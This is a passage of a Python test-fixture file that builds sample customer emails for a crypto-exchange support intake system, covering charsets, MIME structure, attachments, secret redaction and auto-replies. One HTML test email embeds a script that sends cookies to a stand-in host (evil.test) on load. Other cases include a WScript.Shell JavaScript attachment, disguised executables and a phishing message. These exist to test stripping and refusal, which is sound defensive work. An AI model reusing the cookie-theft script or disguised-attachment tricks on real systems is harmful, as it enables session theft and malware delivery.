        sender="Andrei Stan <andrei.stan@posta.test>",
        subject="Reclamație",
    ),
    Expect(
        "new_case",
        thread="new",
        language="ro",
        kind="complaint",
        text_contains=("Vreau să depun o reclamație",),
    ),
)

# --- charsets and transfer encodings -------------------------------------------------------------------

_add(
    "charset-iso-8859-1",
    _mail(
        """Buenos días,

Mi depósito de 150 euros no aparece en la cuenta desde el martes. Adjunté el
justificante en el formulario web. ¿Podrían comprobarlo? Muchas gracias.
""",
        charset="iso-8859-1",
        sender="Pedro Sánchez <pedro@correo.test>".encode("iso-8859-1"),
        subject="=?iso-8859-1?Q?Dep=F3sito_no_recibido?=",
        content_type="text/plain; charset=iso-8859-1",
    ),
    Expect(
        "new_case",
        language="es",
        text_contains=("Mi depósito de 150 euros",),
        subject_contains=("Depósito no recibido",),
    ),
)

_add(
    "charset-windows-1252",
    _mail(
        """Hello,

My withdrawal of \u20ac1,200 is still \u201cpending\u201d after five days \u2013 I\u2019m
getting worried. Could somebody please look into it today?
""",
        charset="cp1252",
        crlf=True,
        sender="Claire Dubois <claire@customer.test>",
        subject="Withdrawal pending",
        content_type='text/plain; charset="windows-1252"',
    ),
    Expect("new_case", language="en", text_contains=("\u20ac1,200 is still \u201cpending\u201d", "I\u2019m")),
)

# ISO-8859-2 has the cedilla forms (ş ţ) that older Romanian software still sends.
_add(
    "charset-iso-8859-2-romanian",
    _mail(
        """Bună ziua,

Depunerea mea de 500 de lei nu a apărut în cont. Banca spune că transferul a
fost făcut ieri. Vă rog să verificaţi şi să îmi spuneţi ce trebuie să fac.
""",
        charset="iso-8859-2",
        sender=f"{_encoded_word('Mihai Ştefan', 'iso-8859-2')} <mihai@posta.test>",
        subject="=?ISO-8859-2?Q?Depunere_necreditat=E3?=",
        content_type="text/plain; charset=ISO-8859-2",
        encoding="8bit",
    ),
    Expect(
        "new_case",
        language="ro",
        text_contains=("Depunerea mea de 500 de lei nu a apărut în cont",),
        subject_contains=("Depunere necreditată",),
    ),
)

_add(
    "charset-koi8-r",
    _mail(
        """Здравствуйте!

Мой вывод средств задерживается уже три дня. Пожалуйста, проверьте статус
транзакции и сообщите мне.
""",
        charset="koi8-r",
        sender=f"{_encoded_word('Максим Петров', 'KOI8-R')} <maxim@pochta.test>",
        subject=_encoded_word("Вывод средств", "KOI8-R"),
        content_type="text/plain; charset=KOI8-R",
    ),
    Expect("new_case", thread="new", text_contains=("Мой вывод средств задерживается",)),
)

# Declared UTF-8 but written in Latin-1 by a misconfigured client: read as what it is, not as "?".
_add(
    "charset-wrong-declared-utf8-latin1-bytes",
    _mail(
        """Hola,

Mi depósito de 80 euros no aparece todavía. Lo envié el miércoles desde mi
banco y ya pasaron tres días. ¿Qué puedo hacer?
""".encode("iso-8859-1"),
        sender="Ana Torres <ana.torres@correo.test>",
        subject="Depósito".encode("iso-8859-1"),
        content_type="text/plain; charset=utf-8",
    ),
    Expect("new_case", language="es", text_contains=("Mi depósito de 80 euros",)),
)

_add(
    "charset-unknown-name",
    _mail(
        """Hello, my deposit of 0.1 BTC has six confirmations on the blockchain but it is
not in my account yet. Can you check it please? Thank you.
""",
        sender="Oliver Grant <oliver@customer.test>",
        subject="Deposit missing",
        content_type="text/plain; charset=x-unknown-foo",
        encoding="7bit",
    ),
    Expect("new_case", language="en", text_contains=("six confirmations on the blockchain",)),
)

_add(
    "encoding-quoted-printable",
    _join(
        _headers(
            sender="=?UTF-8?Q?Jos=C3=A9_Mart=C3=ADnez?= <jose.martinez@correo.test>",
            subject="=?UTF-8?Q?Verificaci=C3=B3n_de_identidad?=",
            content_type="text/plain; charset=utf-8",
            encoding="quoted-printable",
        ),
        b"Hola, envi=C3=A9 mis documentos para la verificaci=C3=B3n de identidad hace un=\n"
        b"a semana y todav=C3=ADa no tengo respuesta. =C2=BFPodr=C3=ADan revisar el esta=\n"
        b"do de mi solicitud? Gracias.\n",
        crlf=True,
    ),
    Expect(
        "new_case",
        language="es",
        text_contains=("envié mis documentos para la verificación de identidad hace una semana",),
        subject_contains=("Verificación de identidad",),
    ),
)

_add(
    "encoding-base64",
    _join(
        _headers(
            sender="Sofia Rossi <sofia.rossi@customer.test>",
            subject=_encoded_word("Withdrawal \u2013 not received"),
            content_type="text/plain; charset=UTF-8",
            encoding="base64",
        ),
        _b64(
            b"My withdrawal of 2,000 USDC to my bank has not arrived. It was approved on "
            b"Tuesday according to your app. Please confirm the transfer details.\n"
        ).encode(),
        crlf=False,
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("My withdrawal of 2,000 USDC",),
        subject_contains=("Withdrawal \u2013 not received",),
    ),
)

_add(
    "encoded-word-from-name-base64",
    _mail(
        """Bună ziua, doresc să închid contul meu și să retrag toate fondurile rămase.
Vă rog să îmi spuneți care sunt pașii necesari. Mulțumesc frumos.
""",
        sender=f"{_encoded_word('Ștefan Țicu')} <stefan.ticu@posta.test>",
        subject=_encoded_word("Închidere cont"),
    ),
    Expect(
        "new_case",
        language="ro",
        text_contains=("doresc să închid contul",),
        subject_contains=("Închidere cont",),
    ),
)

# Raw UTF-8 in headers (no encoded words), as many phones send it (RFC 6532).
_add(
    "header-raw-utf8-subject",
    _mail(
        """Hola, no puedo iniciar sesión desde ayer. La aplicación dice que mi cuenta está
bloqueada. ¿Pueden ayudarme a desbloquearla?
""",
        sender="Núria Vidal <nuria@correo.test>".encode(),
        subject="Cuenta bloqueada \u2013 ¿qué hago?".encode(),
    ),
    Expect(
        "new_case",
        language="es",
        text_contains=("mi cuenta está\nbloqueada",),
        subject_contains=("¿qué hago?",),
    ),
)

# ISO-8859-1 declared, Windows-1252 bytes (smart quotes 0x93/0x94, euro 0x80): what Outlook really sends.
# Browsers and mail clients read the label as Windows-1252 (WHATWG Encoding), so should we.
_add(
    "charset-latin1-declared-cp1252-quotes",
    _mail(
        """Hello,

My deposit of \u20ac300 still shows as \u201cawaiting confirmation\u201d after two days. The bank
confirmed the transfer on Friday. Please check it.
""",
        charset="cp1252",
        sender="Marc Lefebvre <marc.lefebvre@customer.test>",
        subject="Deposit awaiting confirmation",
        content_type="text/plain; charset=iso-8859-1",
        encoding="8bit",
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("\u20ac300 still shows as \u201cawaiting confirmation\u201d",),
    ),
)

_add(
    "encoding-base64-broken-padding",
    _join(
        _headers(
            sender="Sofia Rossi <sofia.rossi2@customer.test>",
            subject="Account verification",
            content_type="text/plain; charset=UTF-8",
            encoding="base64",
        ),
        _b64(
            b"I uploaded my passport for verification three days ago and the status has not changed. "
            b"Can you tell me if anything is missing?\n"
        )
        .replace("=", "")
        .encode()
        + b"!!\n",
        crlf=True,
    ),
    Expect("new_case", language="en", text_contains=("I uploaded my passport for verification",)),
)


# --- structure -----------------------------------------------------------------------------------------

_add(
    "structure-nested-mixed-alternative-pdf",
    _join(
        _headers(
            sender="Hannah Weber <hannah.weber@customer.test>",
            subject="Statement for my deposit",
            content_type='multipart/mixed; boundary="mixed-001"',
            encoding=None,
        ),
        _multipart(
            "mixed-001",
            [
                b'Content-Type: multipart/alternative; boundary="alt-001"\n\n'
                + _multipart(
                    "alt-001",
                    [
                        _part(
                            ["Content-Type: text/plain; charset=utf-8"],
                            "Please find attached the bank statement showing the deposit of 900 USD.\n"
                            "It left my account on November 25.\n",
                        ),
                        _part(
                            ["Content-Type: text/html; charset=utf-8"],
                            "<p>Please find attached the bank statement showing the deposit of 900 USD.</p>"
                            "<p>It left my account on November 25.</p>\n",
                        ),
                    ],
                ),
                _part(
                    [
                        "Content-Type: application/pdf; name=statement.pdf",
                        "Content-Disposition: attachment; filename=statement.pdf",
                        "Content-Transfer-Encoding: base64",
                    ],
                    _b64(PDF),
                ),
            ],
            preamble="This is a multi-part message in MIME format.",
        ),
        crlf=True,
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("deposit of 900 USD",),
        text_excludes=("<p>",),
        attachments=1,
        attachment_names=("statement.pdf",),
    ),
)

_add(
    "structure-related-inline-image",
    _join(
        _headers(
            sender="Lena Fischer <lena.fischer@customer.test>",
            subject="Error when withdrawing",
            content_type='multipart/related; boundary="rel-01"; type="text/html"',
            encoding=None,
        ),
        _multipart(
            "rel-01",
            [
                _part(
                    ["Content-Type: text/html; charset=utf-8"],
                    "<html><body><p>I get this error every time I try to withdraw:</p>"
                    '<img src="cid:shot1@local">'
                    "<p>What does it mean? I have tried three times today.</p></body></html>\n",
                ),
                _part(
                    [
                        "Content-Type: image/png; name=screenshot.png",
                        "Content-ID: <shot1@local>",
                        "Content-Disposition: inline; filename=screenshot.png",
                        "Content-Transfer-Encoding: base64",
                    ],
                    _b64(PNG),
                ),
            ],
        ),
        crlf=False,
    ),
    # A pasted screenshot is evidence: kept like any attachment.
    Expect(
        "new_case",
        language="en",
        text_contains=("I get this error every time I try to withdraw", "I have tried three times today"),
        attachments=1,
        attachment_names=("screenshot.png",),
    ),
)

_add(
    "structure-html-only-script-style-pixel",
    _mail(
        """<!DOCTYPE html><html><head><title>Newsletter template</title>
<style>body { font-family: Arial; } .hidden-css-marker { display: none; }</style>
<script>window.stealCookies = function() {
  document.location = "https://evil.test/?" + document.cookie; };</script>
</head><body onload="stealCookies()">
<p>Hello,</p>
<p>I cannot find my deposit of <b>0.3 ETH</b> sent yesterday from my MetaMask
wallet. The transaction shows as confirmed on Etherscan.</p>
<p>Thank you &amp; regards,<br>Ravi</p>
<img src="https://tracker.mailer.test/open.gif?u=12345" width="1" height="1" alt="">
</body></html>
""",
        sender="Ravi Shah <ravi.shah@customer.test>",
        subject="Deposit missing",
        content_type="text/html; charset=utf-8",
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("I cannot find my deposit of", "0.3 ETH", "Thank you & regards"),
        text_excludes=("stealCookies", "font-family", "hidden-css-marker", "tracker.mailer.test", "<p>"),
    ),
)

_add(
    "attachment-text-plain",
    _join(
        _headers(
            sender="Eva Novak <eva.novak@customer.test>",
            subject="App crash log",
            content_type='multipart/mixed; boundary="=_b1"',
            encoding=None,
        ),
        _multipart(
            "=_b1",
            [
                _part(
                    ["Content-Type: text/plain; charset=utf-8"],
                    "The app crashes when I open the withdrawal screen. The log is attached.\n",
                ),
                _part(
                    [
                        "Content-Type: text/plain; charset=utf-8; name=crash-log.txt",
                        "Content-Disposition: attachment; filename=crash-log.txt",
                    ],
                    "2026-11-30T09:14:02Z ERROR WithdrawalScreen: NullPointerException\n",
                ),
            ],
        ),
        crlf=True,
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("The app crashes when I open the withdrawal screen",),
        text_excludes=("NullPointerException",),
        attachments=1,
        attachment_names=("crash-log.txt",),
    ),
)

_add(
    "attachment-image-and-pdf",
    _join(
        _headers(
            sender="Yuki Tanaka <yuki.tanaka@customer.test>",
            subject="Proof of address",
            content_type='multipart/mixed; boundary="Apple-Mail=_7F3A"',
            encoding=None,
            extra=("X-Mailer: Apple Mail (2.3774.200.91.1.1)",),
        ),
        _multipart(
            "Apple-Mail=_7F3A",
            [
                _part(
                    ["Content-Type: text/plain; charset=us-ascii", "Content-Transfer-Encoding: 7bit"],
                    "Here are the photo of my ID and the utility bill you asked for.\n",
                ),
                _part(
                    [
                        "Content-Type: image/png; name=id-front.png",
                        "Content-Disposition: attachment; filename=id-front.png",
                        "Content-Transfer-Encoding: base64",
                    ],
                    _b64(PNG),
                ),
                _part(
                    [
                        "Content-Type: application/pdf; name=utility-bill.pdf",
                        "Content-Disposition: attachment; filename=utility-bill.pdf",
                        "Content-Transfer-Encoding: base64",
                    ],
                    _b64(PDF),
                ),
            ],
        ),
        crlf=False,
    ),
    Expect(
        "new_case",
        text_contains=("photo of my ID",),
        attachments=2,
        attachment_names=("id-front.png", "utility-bill.pdf"),
    ),
)

_add(
    "attachment-rfc2231-filename",
    _join(
        _headers(
            sender="Mateo López <mateo.lopez@correo.test>",
            subject="Extracto bancario",
            content_type='multipart/mixed; boundary="b2231"',
            encoding=None,
        ),
        _multipart(
            "b2231",
            [
                _part(
                    ["Content-Type: text/plain; charset=utf-8"],
                    "Adjunto el extracto bancario con la transferencia. El depósito era de 400 euros y\n"
                    "todavía no aparece en mi cuenta. Gracias por revisarlo.\n",
                ),
                _part(
                    [
                        "Content-Type: application/pdf",
                        "Content-Disposition: attachment;",
                        " filename*=UTF-8''extracto%20bancario%20noviembre%20%E2%82%AC.pdf",
                        "Content-Transfer-Encoding: base64",
                    ],
                    _b64(PDF),
                ),
            ],
        ),
        crlf=True,
    ),
    Expect(
        "new_case",
        language="es",
        text_contains=("Adjunto el extracto bancario",),
        attachments=1,
        attachment_names=("extracto bancario noviembre \u20ac.pdf",),
    ),
)

_add(
    "attachment-dangerous-exe",
    _join(
        _headers(
            sender="Kevin Moore <kevin.moore@customer.test>",
            subject="Wallet tool not working",
            content_type='multipart/mixed; boundary="exe-b"',
            encoding=None,
        ),
        _multipart(
            "exe-b",
            [
                _part(
                    ["Content-Type: text/plain; charset=utf-8"],
                    "I attach the wallet tool someone sent me; it says my account is locked. Is this\n"
                    "really from you? I did not run it yet.\n",
                ),
                _part(
                    [
                        "Content-Type: application/octet-stream; name=HudsonWalletFix.exe",
                        "Content-Disposition: attachment; filename=HudsonWalletFix.exe",
                        "Content-Transfer-Encoding: base64",
                    ],
                    _b64(EXE),
                ),
            ],
        ),
        crlf=False,
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("I attach the wallet tool someone sent me",),
        attachments=0,
        refused_attachments=1,
    ),
)

_add(
    "attachment-dangerous-double-extension-and-js",
    _join(
        _headers(
            sender="Nina Petrova <nina.petrova@customer.test>",
            subject="Invoice from Hudson?",
            content_type='multipart/mixed; boundary="dbl"',
            encoding=None,
        ),
        _multipart(
            "dbl",
            [
                _part(
                    ["Content-Type: text/plain; charset=utf-8"],
                    "I received these files claiming to be an invoice from you. Are they genuine?\n"
                    "The PDF one looks odd.\n",
                ),
                _part(
                    [
                        "Content-Type: application/octet-stream",
                        'Content-Disposition: attachment; filename="invoice.pdf.scr"',
                        "Content-Transfer-Encoding: base64",
                    ],
                    _b64(EXE),
                ),
                _part(
                    [
                        "Content-Type: application/javascript",
                        'Content-Disposition: attachment; filename="details.JS"',
                    ],
                    "var shell = new ActiveXObject('WScript.Shell');\n",
                ),
                _part(
                    [
                        "Content-Type: application/pdf",
                        'Content-Disposition: attachment; filename="real-invoice.pdf"',
                        "Content-Transfer-Encoding: base64",
                    ],
                    _b64(PDF),
                ),
            ],
        ),
        crlf=True,
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("claiming to be an invoice",),
        attachments=1,
        refused_attachments=2,
        attachment_names=("real-invoice.pdf",),
    ),
)

_add(
    "attachment-message-rfc822",
    _join(
        _headers(
            sender="Olivia Green <olivia.green@customer.test>",
            subject="Fw: suspicious email",
            content_type='multipart/mixed; boundary="fw-1"',
            encoding=None,
        ),
        _multipart(
            "fw-1",
            [
                _part(
                    ["Content-Type: text/plain; charset=utf-8"],
                    "I received the attached email asking me to verify my wallet. Is it from you?\n"
                    "It looks like phishing to me.\n",
                ),
                _part(
                    [
                        "Content-Type: message/rfc822",
                        'Content-Disposition: attachment; filename="verify.eml"',
                    ],
                    "From: Hudson Security <security@hudson-verify.test>\n"
                    "To: olivia.green@customer.test\n"
                    "Subject: Verify your wallet now\n"
                    "Date: Sun, 29 Nov 2026 22:01:00 +0000\n"
                    "Message-ID: <phish-{{unique}}@hudson-verify.test>\n"
                    "Content-Type: text/plain; charset=utf-8\n\n"
                    "Your account will be closed unless you enter your recovery phrase at our site.\n",
                ),
            ],
        ),
        crlf=False,
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("It looks like phishing to me",),
        attachments=1,
        attachment_names=("verify.eml",),
    ),
)

_add(
    "structure-empty-body-with-attachment",
    _join(
        _headers(
            sender="Paul Adams <paul.adams@customer.test>",
            subject="Screenshot",
            content_type='multipart/mixed; boundary="empty-b"',
            encoding=None,
        ),
        _multipart(
            "empty-b",
            [
                _part(["Content-Type: text/plain; charset=utf-8"], ""),
                _part(
                    [
                        "Content-Type: image/png",
                        "Content-Disposition: attachment; filename=withdrawal-error.png",
                        "Content-Transfer-Encoding: base64",
                    ],
                    _b64(PNG),
                ),
            ],
        ),
        crlf=True,
    ),
    Expect("new_case", thread="new", attachments=1, attachment_names=("withdrawal-error.png",)),
)

_add(
    "structure-attachment-only-no-text-part",
    _join(
        _headers(
            sender="Paul Adams <paul.adams@customer.test>",
            subject="Bank statement",
            content_type='multipart/mixed; boundary="only-b"',
            encoding=None,
        ),
        _multipart(
            "only-b",
            [
                _part(
                    [
                        "Content-Type: application/pdf; name=bank.pdf",
                        "Content-Disposition: attachment; filename=bank.pdf",
                        "Content-Transfer-Encoding: base64",
                    ],
                    _b64(PDF),
                ),
            ],
        ),
        crlf=False,
    ),
    Expect("new_case", thread="new", attachments=1, attachment_names=("bank.pdf",)),
)

_RECEIVED = tuple(
    f"Received: from relay{i}.mx.test (relay{i}.mx.test [10.0.{i // 250}.{i % 250}])\n"
    f"\tby relay{i + 1}.mx.test with ESMTPS id {i:08x}; Mon, 30 Nov 2026 10:{i % 60:02d}:00 -0500"
    for i in range(200)
)
_add(
    "structure-200-received-headers",
    _mail(
        """Hello, my account shows a negative balance after a failed withdrawal. I did not
authorise any trade. Can you explain what happened and correct it?
""",
        sender="Sam Rivera <sam.rivera@customer.test>",
        subject="Negative balance",
        extra=_RECEIVED,
        crlf=True,
    ),
    Expect("new_case", language="en", text_contains=("negative balance after a failed withdrawal",)),
)

_add(
    "structure-truncated-multipart",
    _join(
        _headers(
            sender="Victor Hugo <victor.hugo@customer.test>",
            subject="Withdrawal question",
            content_type='multipart/mixed; boundary="never-closed"',
            encoding=None,
        ),
        _multipart(
            "never-closed",
            [
                _part(
                    ["Content-Type: text/plain; charset=utf-8"],
                    "My withdrawal to my bank account was returned. Why did this happen and when can I\n"
                    "try again?\n",
                ),
                _part(
                    [
                        "Content-Type: application/pdf; name=return.pdf",
                        "Content-Disposition: attachment; filename=return.pdf",
                        "Content-Transfer-Encoding: base64",
                    ],
                    _b64(PDF)[:40],
                ),
            ],
            close=False,
        ),
        crlf=False,
    ),
    # The part that arrived, cut short, is still kept as evidence.
    Expect(
        "new_case",
        language="en",
        text_contains=("My withdrawal to my bank account was returned",),
        attachments=1,
    ),
)

_add(
    "structure-no-message-id-folded-headers",
    _join(
        [
            'From: "Rivera, Sam"\n <sam.rivera2@customer.test>',
            "To: support team\n\t<{{support}}>",
            "Subject: Question about\n fees on withdrawals",
            f"Date: {DATE}",
            "MIME-Version: 1.0",
            "Content-Type: text/plain",
        ],
        b"Why was I charged a fee of 25 USD on my last withdrawal? The fee schedule on your\n"
        b"website says 10 USD. Please explain the difference.\n",
        crlf=True,
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("charged a fee of 25 USD",),
        subject_contains=("Question about fees on withdrawals",),
    ),
)

_add(
    "structure-huge-body",
    _mail(
        "My withdrawal is blocked. Below is the full export of my account history.\n\n"
        + "".join(
            f"2026-11-{1 + i % 28:02d} 10:{i % 60:02d}  trade  BTC/USD  0.00{i % 10}  filled\n"
            for i in range(3200)
        ),
        sender="Quinn Baker <quinn.baker@customer.test>",
        subject="Account history",
        crlf=True,
    ),
    Expect("new_case", language="en", text_contains=("My withdrawal is blocked.",)),
)

# A stray NUL byte (a broken mobile client): SQLite stores it, PostgreSQL refuses text containing it.
_add(
    "structure-nul-byte-in-body",
    _mail(
        b"Hello, I cannot see my staking rewards since Sunday.\x00 Were they paid this week? "
        b"My account email is this one.\n",
        sender="Rita Moreno <rita.moreno@customer.test>",
        subject="Staking rewards",
    ),
    Expect("new_case", language="en", text_contains=("I cannot see my staking rewards", "Were they paid")),
)

_add(
    "structure-no-subject-no-date-no-body",
    _join(
        [
            "From: Tom Becker <tom.becker2@customer.test>",
            "To: {{support}}",
            "Message-ID: <{{unique}}.bare@customer.test>",
        ],
        b"",
        crlf=False,
    ),
    Expect("new_case", thread="new"),
)

# Display-name spoofing: the name says support, the address does not. Not a loop: a stranger's message.
_add(
    "from-display-name-looks-like-support",
    _mail(
        """Hello, I received an email saying my account will be suspended unless I verify it.
Is this message from you? I have not clicked anything yet.
""",
        sender='"{{support}}" <worried.user@customer.test>',
        subject="Is this from you?",
    ),
    Expect("new_case", thread="new", language="en", text_contains=("Is this message from you?",)),
)


# --- secrets customers paste (CRY-03): never stored, not even in the original ----------------------------

_add(
    "secret-mnemonic",
    _mail(
        f"""Hello,

My wallet stopped showing my balance. Here is my recovery phrase so you can check:
{MNEMONIC}

Please restore my wallet as soon as possible.
""",
        sender="Frank Olsen <frank.olsen@customer.test>",
        subject="Wallet balance gone",
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("My wallet stopped showing my balance", "restore my wallet as soon as possible"),
        text_excludes=("abandon abandon abandon",),
        redacted=("mnemonic",),
    ),
)

_add(
    "secret-mnemonic-numbered-in-reply",
    _mail(
        """I was told by your agent on Telegram to send the words here:
1. abandon 2. abandon 3. abandon 4. abandon 5. abandon 6. abandon
7. abandon 8. abandon 9. abandon 10. abandon 11. abandon 12. about
Is my withdrawal released now?
""",
        **_reply_headers(message_id="<CAF{{unique}}seed@mail.gmail.com>"),
    ),
    Expect(
        "reply",
        thread="in_reply_to",
        text_contains=("Is my withdrawal released now?",),
        text_excludes=("3. abandon 4. abandon", "12. about"),
        redacted=("mnemonic",),
    ),
)

_add(
    "secret-private-key",
    _mail(
        f"""Hi, I cannot access my old wallet anymore.
Here is my private key: {PRIVATE_KEY}
Can you move the funds to my Hudson account?
""",
        sender="George Hall <george.hall@customer.test>",
        subject="Recover funds from old wallet",
        crlf=True,
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("Can you move the funds",),
        text_excludes=(PRIVATE_KEY,),
        redacted=("private_key",),
    ),
)

_add(
    "secret-card-number",
    _mail(
        """Hello, my card 4111 1111 1111 1111 was charged twice for the same purchase of
crypto yesterday. Please refund the duplicate charge.
""",
        sender="Irene Clark <irene.clark@customer.test>",
        subject="Charged twice",
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("was charged twice",),
        text_excludes=("4111 1111 1111 1111",),
        redacted=("card_number",),
    ),
)

# A secret inside a base64 body: the stored original must not keep it encoded either.
_add(
    "secret-card-number-in-base64-body",
    _join(
        _headers(
            sender="Irene Clark <irene.clark2@customer.test>",
            subject="Card payment failed",
            content_type="text/plain; charset=utf-8",
            encoding="base64",
        ),
        _b64(
            b"My payment with card 4111-1111-1111-1111 failed three times today. "
            b"The bank says there is no block on their side. What is wrong?\n"
        ).encode(),
        crlf=True,
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("failed three times today",),
        text_excludes=("4111-1111-1111-1111",),
        redacted=("card_number",),
    ),
)

_add(
    "secret-lookalike-tx-hash-and-address-kept",
    _mail(
        f"""Hello,

My deposit has not arrived. The tx hash is
{TX_HASH}
and I sent it to {ETH_ADDRESS} yesterday at 14:00 UTC. Etherscan shows 40
confirmations. Please credit my account.
""",
        sender="Henry Wood <henry.wood@customer.test>",
        subject="ETH deposit not credited",
    ),
    Expect("new_case", language="en", text_contains=(TX_HASH, ETH_ADDRESS), redacted=()),
)

_add(
    "secret-mnemonic-in-subject",
    _mail(
        "I put my words in the subject line by mistake. Please help me secure my wallet now.\n",
        sender="Uma Reddy <uma.reddy@customer.test>",
        subject=f"My seed {MNEMONIC}",
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("secure my wallet",),
        text_excludes=("abandon abandon abandon",),
        redacted=("mnemonic",),
    ),
)

_add(
    "secret-card-number-in-html-only",
    _mail(
        """<html><body><p>Hello,</p><p>My card <b>4111 1111 1111 1111</b> was declined when I tried to
buy bitcoin today. What is the problem?</p></body></html>
""",
        sender="Victor Lang <victor.lang@customer.test>",
        subject="Card declined",
        content_type="text/html; charset=utf-8",
        crlf=True,
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("was declined when I tried",),
        text_excludes=("4111 1111 1111 1111",),
        redacted=("card_number",),
    ),
)

# The phrase only in an attached "backup" text file: not stored anywhere either (CRY-03).
_add(
    "secret-mnemonic-in-text-attachment",
    _join(
        _headers(
            sender="Walter Brown <walter.brown@customer.test>",
            subject="Wallet backup",
            content_type='multipart/mixed; boundary="seedfile"',
            encoding=None,
        ),
        _multipart(
            "seedfile",
            [
                _part(
                    ["Content-Type: text/plain; charset=utf-8"],
                    "I attach my wallet backup file so you can restore my old account balance.\n",
                ),
                _part(
                    [
                        "Content-Type: text/plain; charset=utf-8; name=backup.txt",
                        "Content-Disposition: attachment; filename=backup.txt",
                    ],
                    f"wallet backup 2024\n{MNEMONIC}\n",
                ),
            ],
        ),
        crlf=False,
    ),
    Expect(
        "new_case",
        text_contains=("I attach my wallet backup file",),
        text_excludes=("abandon abandon abandon",),
        redacted=("mnemonic",),
        attachments=1,
    ),
)


# The customer forwards, as an attachment, what they sent the fake agent: the phrase is inside the .eml.
_add(
    "secret-mnemonic-in-attached-message",
    _join(
        _headers(
            sender="Xavier Stone <xavier.stone@customer.test>",
            subject="Fw: what I sent to your agent",
            content_type='multipart/mixed; boundary="fwd-seed"',
            encoding=None,
        ),
        _multipart(
            "fwd-seed",
            [
                _part(
                    ["Content-Type: text/plain; charset=utf-8"],
                    "I attach the email I sent to the man who said he was your agent. Was it really you?\n",
                ),
                _part(
                    ["Content-Type: message/rfc822", 'Content-Disposition: attachment; filename="sent.eml"'],
                    "From: Xavier Stone <xavier.stone@customer.test>\n"
                    "To: Hudson Agent <agent@hudson-help.test>\n"
                    "Subject: My words\n"
                    "Date: Sun, 29 Nov 2026 20:15:00 -0500\n"
                    "Message-ID: <sent-{{unique}}@customer.test>\n"
                    "Content-Type: text/plain; charset=utf-8\n\n"
                    f"As you asked, my recovery words: {MNEMONIC}\n",
                ),
            ],
        ),
        crlf=True,
    ),
    Expect(
        "new_case",
        language="en",
        text_contains=("Was it really you?",),
        text_excludes=("abandon abandon abandon",),
        redacted=("mnemonic",),
        attachments=1,
    ),
)

# --- automatic mail: never acknowledged, never reopens a case (DFS-12, RFC 3834) -------------------------

_OOO = """Thank you for your message. I am out of the office until December 7 with
limited access to email. I will reply when I am back.
"""
_add(
    "auto-rfc3834-out-of-office",
    _mail(
        _OOO,
        subject=f"Automatic reply: {ACK_SUBJECT}",
        message_id="<{{unique}}.ooo@customer.test>",
        extra=("Auto-Submitted: auto-replied", "In-Reply-To: {{ack_message_id}}"),
    ),
    Expect("auto_reply"),
)

_add(
    "auto-precedence-bulk",
    _mail(
        _OOO,
        subject=f"Out of office Re: {ACK_SUBJECT}",
        message_id="<{{unique}}.bulk@customer.test>",
        extra=("Precedence: bulk", "In-Reply-To: {{ack_message_id}}"),
        crlf=True,
    ),
    Expect("auto_reply"),
)

_add(
    "auto-precedence-auto-reply",
    _mail(
        _OOO,
        subject=f"Away: {ACK_SUBJECT}",
        message_id="<{{unique}}.preauto@customer.test>",
        extra=("Precedence: auto_reply", "References: {{ack_message_id}}"),
    ),
    Expect("auto_reply"),
)

_add(
    "auto-x-autoreply",
    _mail(
        _OOO,
        subject=f"Auto: {ACK_SUBJECT}",
        message_id="<{{unique}}.xar@customer.test>",
        extra=("X-Autoreply: yes", "In-Reply-To: {{ack_message_id}}"),
    ),
    Expect("auto_reply"),
)

_add(
    "auto-x-autorespond",
    _mail(
        _OOO,
        subject="Re: {{reference}}",
        message_id="<{{unique}}.xars@customer.test>",
        extra=("X-Autorespond: Out of office", "In-Reply-To: {{ack_message_id}}"),
        crlf=True,
    ),
    Expect("auto_reply"),
)

_add(
    "auto-outlook-out-of-office",
    _mail(
        _OOO,
        subject=f"Automatic reply: {ACK_SUBJECT}",
        message_id="<BY5PR{{unique}}@BY5PR11MB.namprd11.prod.outlook.com>",
        extra=(
            "Thread-Topic: [{{reference}}] We have received your request",
            "In-Reply-To: {{ack_message_id}}",
            "References: {{ack_message_id}}",
            "X-Auto-Response-Suppress: All",
            "Auto-Submitted: auto-replied",
            "X-MS-Exchange-Inbox-Rules-Loop: {{customer}}",
        ),
        crlf=True,
    ),
    Expect("auto_reply"),
)

_add(
    "auto-out-of-office-to-token-address",
    _mail(
        _OOO,
        subject="Out of Office",
        to="{{token_address}}",
        message_id="<{{unique}}.ootok@customer.test>",
        extra=("Auto-Submitted: auto-replied",),
    ),
    Expect("auto_reply"),
)

_add(
    "auto-reply-matching-no-case",
    _mail(
        _OOO,
        sender="Nobody Known <someone@elsewhere.test>",
        subject="Out of Office: Your newsletter",
        message_id="<{{unique}}.oonc@elsewhere.test>",
        extra=("Auto-Submitted: auto-replied",),
    ),
    Expect("quarantined", reason_code="automatic_no_case"),
)

_add(
    "auto-submitted-no-is-human",
    _mail(
        """Hello, I would like to increase my daily withdrawal limit to 20,000 USD. What
documents do you need from me for this? Thank you.
""",
        sender="Laura Chen <laura.chen@customer.test>",
        subject="Withdrawal limit increase",
        extra=("Auto-Submitted: no",),
    ),
    Expect(
        "new_case", thread="new", language="en", kind="request", text_contains=("daily withdrawal limit",)
    ),
)

# The customer's out-of-office with only the reference in the subject (no threading headers).
_add(
    "auto-out-of-office-subject-reference",
    _mail(
        _OOO,
        subject=f"Out of Office: {ACK_SUBJECT}",
        message_id="<{{unique}}.oosubj@customer.test>",
        extra=("Auto-Submitted: auto-replied",),
    ),
    Expect("auto_reply"),
)

# A stranger's auto-reply that quotes a reference in its subject answers none of our mail.
_add(
    "auto-reply-stranger-subject-reference",
    _mail(
        _OOO,
        sender="Someone Else <someone.else@elsewhere.test>",
        subject=f"Automatic reply: {ACK_SUBJECT}",
        message_id="<{{unique}}.oostr@elsewhere.test>",
        extra=("Auto-Submitted: auto-replied",),
    ),
    Expect("quarantined", reason_code="automatic_no_case"),
)


